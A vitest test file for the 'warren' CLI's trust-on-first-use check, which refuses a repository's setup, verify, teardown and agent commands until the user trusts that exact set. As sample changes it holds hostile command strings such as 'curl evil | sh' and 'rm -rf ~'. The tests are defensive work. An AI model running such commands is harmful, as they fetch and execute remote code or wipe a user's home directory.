import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { configSchema } from '../../src/config/schema.js';
import {
  changedCommands,
  changedSettings,
  commandsHash,
  removedCommands,
  repoCommands,
  trustedSet,
  type TrustedFiles,
} from '../../src/config/trust.js';
import { COMMAND_FIELD_TRUST, CONFIG_TRUST } from '../../src/config/trust-rule.js';
import { parseConfig } from '../../src/config/validate.js';
import { unavailable } from '../helpers/capabilities.js';
import { BIN, makeRepo, refsAndWorktrees, runCli, tmpDir, type TestRepo } from '../helpers/repo.js';

/**
 * Trust on first use: a repository's warren.yaml commands (setup, verify, teardown, its own
 * agents) run only once this user trusted that exact set with `warren trust`.
 */

interface TrustJson {
  trusted: boolean;
  hash: string;
  commands: { kind: string; id: string; run: string | string[] }[];
  changed: { kind: string; id: string }[];
}
interface ErrorJson {
  error: { code: string; message: string; hint?: string };
}

/** A "freshly cloned" repository whose every command leaves a mark outside it when it runs. */
function hostileRepo(): { repo: TestRepo; marks: string; ran: () => string[] } {
  const marks = tmpDir('warren-marks-');
  const mark = (name: string) => `touch ${marks}/${name}`;
  const repo = makeRepo({
    trusted: false,
    files: {
      'README.md': '# cloned\n',
      'agent.sh': `${mark('agent')}\n`,
      'warren.yaml': [
        'setup:',
        `  - { id: deps, run: "${mark('setup')}" }`,
        'verify:',
        `  - { id: test, run: "${mark('verify')}" }`,
        'teardown:',
        `  - { id: bye, run: "${mark('teardown')}" }`,
        'agents:',
        '  helper: { command: [sh, agent.sh], prompt: stdin }',
        '',
      ].join('\n'),
    },
  });
  return { repo, marks, ran: () => fs.readdirSync(marks).sort() };
}

describe('the command set (pure)', () => {
  const set = (yaml: string) => repoCommands(parseConfig(yaml));

  it('hashes what runs, not how the file is written: formatting, comments, timeouts and other keys do not count', () => {
    const a = set('setup:\n  - { id: deps, run: "npm ci" }\nverify:\n  - { id: t, run: [node, t.js] }\n');
    const b = set(
      '# a comment\nsandbox: none\nsetup:\n  - id: deps\n    run: npm ci\n    timeout: 5m\nverify:\n  - { id: t, run: ["node", "t.js"], required: false }\n',
    );
    expect(commandsHash(a)).toBe(commandsHash(b));
    expect(commandsHash(a)).toMatch(/^[0-9a-f]{64}$/);
  });

  it.each([
    ['a changed command', 'setup:\n  - { id: deps, run: "npm ci; curl evil | sh" }\n'],
    ['a changed id', 'setup:\n  - { id: other, run: "npm ci" }\n'],
    ['a string turned argv', 'setup:\n  - { id: deps, run: [npm, ci] }\n'],
    ['a setup moved to teardown', 'teardown:\n  - { id: deps, run: "npm ci" }\n'],
    [
      'an added agent',
      'setup:\n  - { id: deps, run: "npm ci" }\nagents:\n  claude: { command: [sh, -c, "rm -rf ~"] }\n',
    ],
  ])('changes with %s', (_what, yaml) => {
    const before = set('setup:\n  - { id: deps, run: "npm ci" }\n');
    expect(commandsHash(set(yaml))).not.toBe(commandsHash(before));
  });

  it('names what is new or changed since the set trusted before', () => {
    const before = set('setup:\n  - { id: a, run: "x" }\n  - { id: b, run: "y" }\n');
    const now = set('setup:\n  - { id: a, run: "x" }\n  - { id: b, run: "z" }\nagents:\n  n: { command: [n] }\n');
    expect(changedCommands(now, JSON.parse(JSON.stringify(before))).map((c) => `${c.kind} ${c.id}`)).toEqual([
      'setup b',
      'agent n',
    ]);
    expect(changedCommands(now, null)).toHaveLength(3);
    expect(removedCommands(now, JSON.parse(JSON.stringify(before)))).toEqual([]);
    expect(removedCommands(before, JSON.parse(JSON.stringify(now))).map((c) => `${c.kind} ${c.id}`)).toEqual([
      'agent n',
    ]);
  });

  it('a set that only lost a command names it, never "0 new or changed"', async () => {
    const repo = makeRepo({
      files: { 'warren.yaml': 'setup:\n  - { id: a, run: "true" }\nverify:\n  - { id: lint, run: "true" }\n' },
    });
    // A pull drops the verify command (written past the helper, which would trust the new set).
    fs.writeFileSync(path.join(repo.root, 'warren.yaml'), 'setup:\n  - { id: a, run: "true" }\n');
    const refused = await repo.warrenJson<ErrorJson>('new', 'feat', 'r1');
    expect(refused.code).toBe(1);
    expect(refused.json.error.message).toContain('changed since you trusted them (removed: verify lint: true)');
    expect(refused.json.error.message).not.toMatch(/0 new or changed/);
    const shown = await repo.warren('trust');
    expect(shown.code).toBe(1);
    expect(shown.stdout).toContain('removed since you trusted an earlier set: verify lint: true');
  });
});

/**
 * The rule (config/trust-rule.ts): every key of warren.yaml, and every field of a command entry,
 * is classified, and a change to each changes the trusted set exactly when its rule says so.
 * One sample change per key or field: a key added to the table without one fails here.
 */
describe('the trust rule: which keys count (pure)', () => {
  const NO_FILES: TrustedFiles = { policySha256: null, worktreeInclude: null };
  interface Doc {
    setup: [{ id: string; run: string; timeout?: string; gate?: boolean }];
    verify: [
      { id: string; run: string; required?: boolean; timeout?: string },
      ...{ id: string; run: string; required?: boolean }[],
    ];
    teardown: [{ id: string; run: string; timeout?: string }];
    agents: { fake: { command: string[]; prompt?: string; leftover_grace?: string } };
    services: Record<'db' | 'cache' | 'web', Record<string, unknown>>;
    [key: string]: unknown;
  }
  const BASE = (): Doc => ({
    setup: [{ id: 'deps', run: 'npm ci' }],
    verify: [{ id: 'test', run: 'npm test' }],
    teardown: [{ id: 'bye', run: 'true' }],
    agents: { fake: { command: ['node', 'a.js'] } },
    services: { db: { kind: 'postgres' }, cache: { kind: 'redis' }, web: { run: 'npm run dev' } },
  });
  /** What each change does to BASE; warren.yaml keys, `KEY.FIELD` for a command entry's field, and the two files. */
  const CHANGES: Record<string, (d: Doc, files: TrustedFiles) => void> = {
    sandbox: (d) => (d.sandbox = 'bwrap'),
    network: (d) => (d.network = true),
    runner: (d) => (d.runner = 'k8s:lab'),
    protected: (d) => (d.protected = ['.env']),
    'land.gate': (d) => (d.land = { gate: ['test'] }),
    'land.batch': (d) => (d.land = { batch: 2 }),
    'land.parallel': (d) => (d.land = { parallel: true }),
    'land.speculate': (d) => (d.land = { speculate: 2 }),
    'land.gates': (d) => (d.land = { gates: 1 }),
    'land.conflicts': (d) => (d.land = { conflicts: false }),
    'conflicts.sync': (d) => (d.conflicts = { sync: 'merge' }),
    'conflicts.tell': (d) => (d.conflicts = { tell: true }),
    worktree_root: (d) => (d.worktree_root = 'wt'),
    provision: (d) => (d.provision = [{ path: '.env', mode: 'share' }]),
    provision_budget: (d) => (d.provision_budget = { entries: 10 }),
    checkout: (d) => (d.checkout = 'cow'),
    ports: (d) => (d.ports = { count: 3 }),
    kill_grace: (d) => (d.kill_grace = '1h'),
    archive: (d) => (d.archive = { keep: '1s' }),
    types: (d) => (d.types = ['feat', 'spike']),
    // Refused whenever present (CONFIG_INVALID): the one change a valid warren.yaml can make is none.
    hosts: (d) => delete d.hosts,
    'setup.id': (d) => (d.setup[0].id = 'other'),
    'setup.run': (d) => (d.setup[0].run = 'curl evil | sh'),
    'setup.timeout': (d) => (d.setup[0].timeout = '1h'),
    'setup.gate': (d) => (d.setup[0].gate = true),
    'verify.id': (d) => (d.verify[0].id = 'other'),
    'verify.run': (d) => (d.verify[0].run = 'true'),
    'verify.required': (d) => (d.verify[0].required = false),
    'verify.timeout': (d) => (d.verify[0].timeout = '1h'),
    'teardown.id': (d) => (d.teardown[0].id = 'other'),
    'teardown.run': (d) => (d.teardown[0].run = 'rm -rf ~'),
    'teardown.timeout': (d) => (d.teardown[0].timeout = '1h'),
    'agents.command': (d) => (d.agents.fake.command = ['sh', 'evil.sh']),
    'agents.prompt': (d) => (d.agents.fake.prompt = 'stdin'),
    'agents.leftover_grace': (d) => (d.agents.fake.leftover_grace = '1h'),
    'services.kind': (d) => (d.services.cache = { kind: 'postgres', env: 'REDIS_URL' }),
    'services.template': (d) => (d.services.db.template = 'tpl'),
    'services.seed': (d) => (d.services.db.seed = { sql: 'db/schema.sql' }),
    'services.run': (d) => (d.services.web.run = 'curl evil | sh'),
    'services.env': (d) => (d.services.db.env = 'PATH'),
    'services.limits': (d) => (d.services.db.limits = { connections: 50 }),
    'services.start': (d) => (d.services.web.start = 'on-demand'),
    'services.ready': (d) => (d.services.web.ready = { port: true }),
    policy: (_d, f) => (f.policySha256 = 'a'.repeat(64)),
    '.worktreeinclude': (_d, f) => (f.worktreeInclude = '.env\n'),
  };
  const hashOf = (d: Doc, files: TrustedFiles) => commandsHash(trustedSet(parseConfig(JSON.stringify(d)), files));
  const rules: [string, unknown][] = [
    ...Object.entries(CONFIG_TRUST).flatMap(([key, rule]): [string, unknown][] =>
      typeof rule === 'object' && 'keys' in rule
        ? Object.entries(rule.keys).map(([sub, r]): [string, unknown] => [`${key}.${sub}`, r])
        : rule === 'commands'
          ? Object.entries(COMMAND_FIELD_TRUST[key as keyof typeof COMMAND_FIELD_TRUST]).map(
              ([field, r]): [string, unknown] => [`${key}.${field}`, r],
            )
          : [[key, rule]],
    ),
    ['policy', 'setting'],
    ['.worktreeinclude', 'setting'],
  ];

  it("classifies every key of warren.yaml's schema", () => {
    expect(Object.keys(CONFIG_TRUST).sort()).toEqual(Object.keys(configSchema.shape).sort());
    expect(Object.keys(CONFIG_TRUST.land.keys).sort()).toEqual(
      Object.keys(configSchema.shape.land.unwrap().shape).sort(),
    );
  });

  it('has one sample change for each classified key and field', () => {
    expect(Object.keys(CHANGES).sort()).toEqual(rules.map(([k]) => k).sort());
  });

  it.each(rules)('%s: the set changes exactly when it counts (%j)', (key, rule) => {
    const before = BASE();
    const after = BASE();
    const files = { ...NO_FILES };
    CHANGES[key]?.(after, files);
    const free = typeof rule === 'object' && rule !== null && 'free' in rule;
    // Free keys justify themselves in the table, not in silence.
    if (free) expect((rule as { free: string }).free.length).toBeGreaterThan(40);
    const changed = hashOf(after, files) !== hashOf(before, NO_FILES);
    expect(changed).toBe(!free);
    if (rule === 'setting' || rule === 'land.gate') {
      const named = changedSettings(
        trustedSet(parseConfig(JSON.stringify(after)), files),
        trustedSet(parseConfig(JSON.stringify(before)), NO_FILES),
      );
      expect(named).toEqual([
        expect.stringMatching(
          new RegExp(`^${rule === 'land.gate' ? 'land\\.gate' : key.replace('.', '\\.')}: \\(unset\\) → `),
        ),
      ]);
    }
  });

  it('counts each setting as it acts: a default written out, an empty list or a comment-only .worktreeinclude is no change', () => {
    const base = hashOf(BASE(), NO_FILES);
    for (const extra of [
      { sandbox: 'none' },
      { network: false },
      { protected: [] },
      { provision: [] },
      { checkout: 'git' },
      { archive: {} },
      { land: { batch: 3 } },
    ])
      expect(hashOf({ ...BASE(), ...extra }, NO_FILES), JSON.stringify(extra)).toBe(base);
    expect(hashOf(BASE(), { ...NO_FILES, worktreeInclude: '# nothing yet\n\n' })).toBe(base);
    // A gate of the required commands is the same gate, however it is written.
    const two = (d: Doc): Doc => ({ ...d, verify: [d.verify[0], { id: 'lint', run: 'lint', required: false }] });
    expect(hashOf(two(BASE()), NO_FILES)).toBe(hashOf({ ...two(BASE()), land: { gate: ['test'] } }, NO_FILES));
  });

  it('a set that counted only the first settings hashes as it did: upgrading asks only where a newly counted key is set', () => {
    // Hashes of the set before it counted provision, archive and the rest (computed with that code).
    const commands = [
      'setup:\n  - { id: deps, run: "npm ci" }',
      'verify:\n  - { id: test, run: [npm, test] }',
      'agents:\n  fake: { command: [node, a.js], prompt: stdin }',
      'services:\n  db: { kind: postgres, template: tpl }\n  web: { run: "npm run dev" }',
    ].join('\n');
    const first = parseConfig(
      `${commands}\nprotected: [".env.testing"]\nsandbox: { kind: bwrap, allow: ["api.example.com"] }\nland: { gate: [test] }\n`,
    );
    expect(commandsHash(trustedSet(first, { policySha256: 'abc', worktreeInclude: null }))).toBe(
      '6d141ffa11948cc1be25dabbe1b004b7e424afa1295433c3ff1201a59fc8d713',
    );
    const second = parseConfig(`${commands}\nsandbox: bwrap\nnetwork: true\nkill_grace: 3s\ntypes: [feat]\n`);
    expect(commandsHash(trustedSet(second, NO_FILES))).toBe(
      'ed44c2adc94f2a1747f16a9dc2a115b6d7ad61342f3bab5c8c52e31ba7e70fdb',
    );
  });
});

describe('trust on first use', () => {
  it('a fresh clone runs none of its commands: new refuses (exit 1, nothing made) and names them; --no-setup still works', async () => {
    const { repo, ran } = hostileRepo();
    const before = refsAndWorktrees(repo.root);
    const refused = await repo.warrenJson<ErrorJson>('new', 'feat', 'T-1');
    expect(refused.code).toBe(1);
    expect(refused.json.error.code).toBe('UNTRUSTED_COMMANDS');
    expect(refused.json.error.message).toContain(`setup deps: touch `);
    expect(refused.json.error.hint).toMatch(/warren trust/);
    expect(refsAndWorktrees(repo.root)).toBe(before);
    expect((await repo.warrenJson<unknown[]>('list')).json).toEqual([]);
    expect(fs.existsSync(path.join(repo.home, 'worktrees'))).toBe(false);

    const human = await repo.warren('new', 'feat', 'T-1');
    expect(human.code).toBe(1);
    expect(human.stderr).toMatch(/not trusted them yet: setup deps/);
    expect(human.stderr).toMatch(/--no-setup/);

    const made = await repo.warrenJson<{ state: string }>('new', 'feat', 'T-1', '--no-setup');
    expect(made.code).toBe(0);
    expect(made.json.state).toBe('ready');
    expect(made.stderr).toMatch(/setup skipped .*after `warren trust`/);
    expect(ran()).toEqual([]);
  });

  it('setup, verify and a warren.yaml agent refuse before anything runs; rm removes the workspace and skips teardown, saying so', async () => {
    const { repo, ran } = hostileRepo();
    expect((await repo.warren('new', 'feat', 'T-2', '--no-setup')).code).toBe(0);
    for (const args of [
      ['setup', 'T-2'],
      ['verify', 'T-2'],
      ['run', 'T-2', '--agent', 'helper', '--prompt', 'hi'],
    ]) {
      const r = await repo.warrenJson<ErrorJson>(...args);
      expect(r.code, args.join(' ')).toBe(1);
      expect(r.json.error.code).toBe('UNTRUSTED_COMMANDS');
    }
    const rm = await repo.warren('rm', 'T-2');
    expect(rm.code).toBe(0);
    expect(rm.stderr).toMatch(/warn: teardown did not run: this repository's commands are not trusted/);
    expect(ran()).toEqual([]);
  });

  it('warren trust shows the set; without --yes and without a terminal it records nothing (exit 1); --yes trusts it and the commands run', async () => {
    const { repo, ran } = hostileRepo();
    const shown = await repo.warren('trust');
    expect(shown.code).toBe(1);
    for (const line of [
      /^setup\s+deps\s+touch .*\/setup$/m,
      /^verify\s+test\s+touch /m,
      /^teardown\s+bye\s+touch /m,
      /^agent\s+helper\s+\["sh","agent.sh"\]\s+\(prompt: stdin\)$/m,
    ]) {
      expect(shown.stdout).toMatch(line);
    }
    expect(shown.stdout).toMatch(/not trusted; nothing was recorded/);
    expect((await repo.warren('new', 'feat', 'T-3')).code).toBe(1);

    const json = await repo.warrenJson<TrustJson>('trust', '--yes');
    expect(json.code).toBe(0);
    expect(json.json).toMatchObject({ trusted: true, hash: expect.stringMatching(/^[0-9a-f]{64}$/) as string });
    expect(json.json.commands.map((c) => `${c.kind} ${c.id}`)).toEqual([
      'setup deps',
      'verify test',
      'teardown bye',
      'agent helper',
    ]);

    expect((await repo.warren('new', 'feat', 'T-3')).code).toBe(0);
    expect((await repo.warren('verify', 'T-3')).code).toBe(0);
    expect((await repo.warren('run', 'T-3', '--agent', 'helper', '--prompt', 'hi')).code).toBe(0);
    expect((await repo.warren('rm', 'T-3')).code).toBe(0);
    expect(ran()).toEqual(['agent', 'setup', 'teardown', 'verify']);
    const again = await repo.warrenJson<TrustJson>('trust');
    expect(again.code).toBe(0);
    expect(again.json.trusted).toBe(true);
  });

  it('a changed set needs trust again, and shows what changed; --hash trusts only the set that was reviewed', async () => {
    const { repo, marks, ran } = hostileRepo();
    const first = await repo.warrenJson<TrustJson>('trust', '--yes');
    // A pull (or a task that landed) changes a command: the old trust does not cover it.
    repo.write(
      'warren.yaml',
      fs.readFileSync(path.join(repo.root, 'warren.yaml'), 'utf8').replace(`${marks}/setup`, `${marks}/setup-changed`),
    );
    const refused = await repo.warrenJson<ErrorJson>('new', 'feat', 'T-4');
    expect(refused.code).toBe(1);
    expect(refused.json.error.message).toMatch(/changed since you trusted them \(1 new or changed\)/);
    const shown = await repo.warrenJson<TrustJson>('trust');
    expect(shown.code).toBe(1);
    expect(shown.json.hash).not.toBe(first.json.hash);
    expect(shown.json.changed.map((c) => `${c.kind} ${c.id}`)).toEqual(['setup deps']);
    expect((await repo.warren('trust')).stdout).toMatch(/^\*\s+setup\s+deps\s+touch .*setup-changed$/m);

    const stale = await repo.warrenJson<ErrorJson>('trust', '--hash', first.json.hash);
    expect(stale.code).toBe(1);
    expect(stale.json.error.code).toBe('UNTRUSTED_COMMANDS');
    expect((await repo.warrenJson<TrustJson>('trust', '--hash', shown.json.hash)).code).toBe(0);
    expect((await repo.warren('new', 'feat', 'T-4')).code).toBe(0);
    expect(ran()).toEqual(['setup-changed']);
  });

  it('trust is per user: another WARREN_HOME has not trusted anything', async () => {
    const { repo, ran } = hostileRepo();
    expect((await repo.warren('trust', '--yes')).code).toBe(0);
    const otherHome = path.join(tmpDir(), 'home');
    const r = await runCli(['new', 'feat', 'T-5'], { cwd: repo.root, home: otherHome });
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/not trusted them yet/);
    expect(ran()).toEqual([]);
  });

  it('a repository without commands needs no trust; its security settings are pinned by its first task', async () => {
    const repo = makeRepo({ trusted: false, files: { 'warren.yaml': 'protected: [".env"]\n' } });
    expect((await repo.warren('new', 'feat', 'T-6')).code).toBe(0);
    const t = await repo.warrenJson<TrustJson>('trust');
    expect(t.code).toBe(0);
    expect(t.json).toMatchObject({ trusted: true, commands: [{ kind: 'setting', id: 'protected', run: '[".env"]' }] });
    // Changed after that: not trusted until the user says so.
    repo.write('warren.yaml', 'protected: []\n');
    const changed = await repo.warrenJson<TrustJson>('trust');
    expect(changed.code).toBe(1);
    expect(changed.json.trusted).toBe(false);
  });

  const noPty = unavailable(import.meta.filename, 'pty');
  it.skipIf(noPty !== null)('at a terminal it asks; y trusts, anything else records nothing', async () => {
    const { repo } = hostileRepo();
    const ask = (answer: string) =>
      spawnSync('script', ['-qec', `${process.execPath} ${BIN} trust`, '/dev/null'], {
        cwd: repo.root,
        env: { ...process.env, WARREN_HOME: repo.home },
        input: answer,
        encoding: 'utf8',
        timeout: 60_000,
      });
    const no = ask('n\n');
    expect(no.status).toBe(1);
    expect(no.stdout).toMatch(/Trust these commands for this repository\? \[y\/N\]/);
    expect(no.stdout).toMatch(/not trusted; nothing was recorded/);
    const yes = ask('y\n');
    expect(yes.status).toBe(0);
    expect(yes.stdout).toMatch(/trusted 4 command\(s\)/);
    expect((await repo.warren('new', 'feat', 'T-7')).code).toBe(0);
  });
});
